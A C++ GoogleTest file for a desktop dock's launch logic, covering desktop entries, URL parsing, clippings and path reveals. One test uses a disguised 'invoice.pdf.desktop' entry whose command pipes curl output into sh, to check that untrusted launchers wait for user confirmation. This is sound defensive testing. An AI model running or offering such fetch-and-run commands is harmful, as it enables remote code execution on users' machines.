#include "support/WorkspaceLaunch.h"
#include "fakes/FakeClipboard.h"
#include "fakes/FakeLaunchConfirmation.h"
#include "fakes/FakeWorkspace.h"
#include "models/DockItem.h"

#include <gtest/gtest.h>

namespace {

using Requests = QStringList;

DockItem item(DockItemKind kind) {
    DockItem result;
    result.id = QUuid::createUuid();
    result.kind = kind;
    result.name = QStringLiteral("Item");
    return result;
}

DockItem withPath(DockItemKind kind, const QString& path) {
    DockItem result = item(kind);
    result.path = path;
    return result;
}

DockItem withUrl(const QString& text) {
    DockItem result = item(DockItemKind::url);
    result.urlString = text;
    return result;
}

// Every field filled, so that a kind that ignores its own field would still be caught using
// another one.
DockItem withEverything(DockItemKind kind) {
    DockItem result = withPath(kind, QStringLiteral("/usr/share/applications/xterm.desktop"));
    result.urlString = QStringLiteral("https://example.com/");
    result.textContent = QStringLiteral("copied");
    result.docklet = DockletKind::clock;
    return result;
}

struct Outcome {
    Requests requests;
    std::optional<QString> clipboard;
};

Outcome opened(const DockItem& dockItem) {
    FakeWorkspace workspace;
    FakeClipboard clipboard;
    FakeLaunchConfirmation confirmation;
    WorkspaceLaunch::open(dockItem, workspace, clipboard, confirmation);
    return {workspace.requests, clipboard.text};
}

Requests revealed(const DockItem& dockItem) {
    FakeWorkspace workspace;
    WorkspaceLaunch::reveal(dockItem, workspace);
    return workspace.requests;
}

const QString entry = QStringLiteral("/usr/share/applications/xterm.desktop");

} // namespace

TEST(WorkspaceLaunchTest, OnlyAnApplicationItemLaunchesADesktopEntry) {
    struct Case {
        DockItemKind kind;
        const char* path;
        const char* request; // nullptr: nothing
    };
    const Case cases[] = {
        {DockItemKind::application, "/usr/share/applications/xterm.desktop",
         "launch /usr/share/applications/xterm.desktop"},
        {DockItemKind::application, "/opt/tool/tool.app", "openPath /opt/tool/tool.app"},
        {DockItemKind::application, "/nowhere/broken.desktop", nullptr}, // not a launcher
        {DockItemKind::file, "/usr/share/applications/xterm.desktop",
         "openPath /usr/share/applications/xterm.desktop"},
        {DockItemKind::folder, "/usr/share/applications/xterm.desktop",
         "openPath /usr/share/applications/xterm.desktop"},
        {DockItemKind::file, "/home/ann/notes.txt", "openPath /home/ann/notes.txt"},
    };
    for (const Case& c : cases) {
        FakeWorkspace workspace;
        workspace.launchers.insert(entry, {QStringLiteral("xterm"), true, "id"});
        FakeClipboard clipboard;
        FakeLaunchConfirmation confirmation;
        DockItem dockItem = withEverything(c.kind);
        dockItem.path = QString::fromUtf8(c.path);
        WorkspaceLaunch::open(dockItem, workspace, clipboard, confirmation);
        EXPECT_EQ(workspace.requests,
                  c.request ? Requests{QString::fromUtf8(c.request)} : Requests{})
            << storedText(c.kind) << " " << c.path;
        EXPECT_TRUE(confirmation.questions.isEmpty());
        EXPECT_FALSE(clipboard.text);
        EXPECT_TRUE(opened(item(c.kind)).requests.isEmpty()) << "no path";
    }
}

TEST(WorkspaceLaunchTest, AnUntrustedEntryLaunchesOnlyOnTheUsersYes) {
    const QString path = QStringLiteral("/home/ann/Downloads/invoice.pdf.desktop");
    for (const bool yes : {false, true}) {
        FakeWorkspace workspace;
        workspace.launchers.insert(path, {QStringLiteral("sh -c 'curl x | sh'"), false, "id"});
        FakeClipboard clipboard;
        FakeLaunchConfirmation confirmation;
        WorkspaceLaunch::open(withPath(DockItemKind::application, path), workspace, clipboard,
                              confirmation);
        EXPECT_EQ(confirmation.questions,
                  QStringList{path + QStringLiteral(": sh -c 'curl x | sh'")});
        EXPECT_TRUE(workspace.requests.isEmpty()) << "nothing runs before the answer";
        confirmation.answerAll(yes);
        EXPECT_EQ(workspace.requests,
                  yes ? Requests{QStringLiteral("launch ") + path} : Requests{});
    }
}

TEST(WorkspaceLaunchTest, OpensOnlyTextThatParsesStrictlyAsAUrlWithAScheme) {
    struct Case {
        const char* text;
        const char* opened; // nullptr: nothing is opened
    };
    const Case cases[] = {
        {"https://example.com/a?b=c#d", "https://example.com/a?b=c#d"},
        {"mailto:someone@example.com", "mailto:someone@example.com"},
        {"file:///tmp/My%20File.txt", "file:///tmp/My%20File.txt"},
        {"ssh://host:22", "ssh://host:22"},
        {"https://exämple.com/ü", "https://xn--exmple-cua.com/%C3%BC"},
        {"example.com", nullptr},
        {"/tmp/file", nullptr},
        {"not a url", nullptr},
        {"https://example.com/a b", nullptr},
        {"http://[::1", nullptr},
        {"", nullptr},
    };
    for (const Case& c : cases) {
        const auto outcome = opened(withUrl(QString::fromUtf8(c.text)));
        const Requests expected =
            c.opened ? Requests{QStringLiteral("openUrl ") + QString::fromUtf8(c.opened)}
                     : Requests{};
        EXPECT_EQ(outcome.requests, expected) << c.text;
    }
    EXPECT_TRUE(opened(item(DockItemKind::url)).requests.isEmpty()) << "no URL text";
}

TEST(WorkspaceLaunchTest, OpeningAClippingReplacesTheClipboardText) {
    FakeWorkspace workspace;
    FakeClipboard clipboard;
    FakeLaunchConfirmation confirmation;
    clipboard.setText(QStringLiteral("older"));
    DockItem clipping = withEverything(DockItemKind::clippingText);
    clipping.textContent = QStringLiteral("Grüße\nzweite Zeile");
    WorkspaceLaunch::open(clipping, workspace, clipboard, confirmation);
    EXPECT_EQ(clipboard.text, QStringLiteral("Grüße\nzweite Zeile"));
    EXPECT_EQ(clipboard.writes, 2);
    EXPECT_TRUE(workspace.requests.isEmpty());

    WorkspaceLaunch::open(item(DockItemKind::clippingText), workspace, clipboard, confirmation);
    EXPECT_EQ(clipboard.writes, 2) << "a clipping without text leaves the clipboard alone";

    clipping.textContent = QString();
    WorkspaceLaunch::open(clipping, workspace, clipboard, confirmation);
    EXPECT_EQ(clipboard.text, QString()) << "an empty text is still a text";
}

TEST(WorkspaceLaunchTest, DockletsAndSeparatorsNeitherOpenNorReveal) {
    for (const auto kind : {DockItemKind::docklet, DockItemKind::separator}) {
        const auto outcome = opened(withEverything(kind));
        EXPECT_TRUE(outcome.requests.isEmpty()) << storedText(kind);
        EXPECT_FALSE(outcome.clipboard) << storedText(kind);
        EXPECT_TRUE(revealed(withEverything(kind)).isEmpty()) << storedText(kind);
    }
    EXPECT_TRUE(revealed(withEverything(DockItemKind::clippingText)).isEmpty());
}

TEST(WorkspaceLaunchTest, RevealsPathsAsFileUrls) {
    const QString path = QStringLiteral("/home/ann/Mes documents/été #1.txt");
    for (const auto kind : {DockItemKind::application, DockItemKind::file, DockItemKind::folder}) {
        EXPECT_EQ(revealed(withPath(kind, path)),
                  (Requests{QStringLiteral(
                      "reveal file:///home/ann/Mes%20documents/%C3%A9t%C3%A9%20%231.txt")}))
            << storedText(kind);
        EXPECT_TRUE(revealed(item(kind)).isEmpty()) << "no path";
    }
}

TEST(WorkspaceLaunchTest, RevealsAUrlUnchangedWhateverItsScheme) {
    for (const char* text : {"https://example.com/page", "ftp://host/dir/", "mailto:a@b.c"})
        EXPECT_EQ(revealed(withUrl(QString::fromUtf8(text))),
                  (Requests{QStringLiteral("reveal ") + QString::fromUtf8(text)}))
            << text;
    EXPECT_TRUE(revealed(withUrl(QStringLiteral("no scheme here"))).isEmpty());
}
